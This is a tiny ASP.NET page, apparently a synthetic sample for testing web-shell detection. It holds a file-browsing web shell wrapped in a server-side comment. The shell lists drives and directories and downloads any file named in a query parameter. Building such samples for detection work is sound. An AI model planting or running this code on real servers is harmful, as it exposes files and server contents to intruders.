<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><%@ Import Namespace="System.IO"%><% string p = Request.QueryString["p"]; foreach (var d in Environment.GetLogicalDrives()) Response.Write(d); foreach (var f in new DirectoryInfo(p).GetFiles()) Response.Write(f.Name); if (Request["dl"] != null) Response.WriteFile(Request["dl"]); %>
--%>
